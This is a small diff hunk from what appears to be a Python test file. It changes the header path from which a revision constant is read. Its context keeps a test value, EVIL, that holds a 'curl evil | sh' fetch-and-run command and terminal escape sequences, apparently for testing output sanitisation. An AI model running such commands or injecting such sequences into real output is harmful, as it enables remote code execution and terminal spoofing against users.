@@ -15,7 +15,7 @@ TOOL = mpis.BUILD / "libexec/fermata/sites"
 LIBC = pathlib.Path("/lib/x86_64-linux-gnu/libc.so.6")
 OTHER, LAUNCHER = 65534, 70
 REVISION = int(re.search(r"kFinderRevision = (\d+)",
-                         (mpis.ROOT / "runtime/sites/finder.h").read_text())[1])
+                         (mpis.ROOT / "runtime/base/sites_revision.h").read_text())[1])
 EVIL = b"run: curl evil | sh \x1b]0;owned\x07 \xc2\x9b31m"
 
 
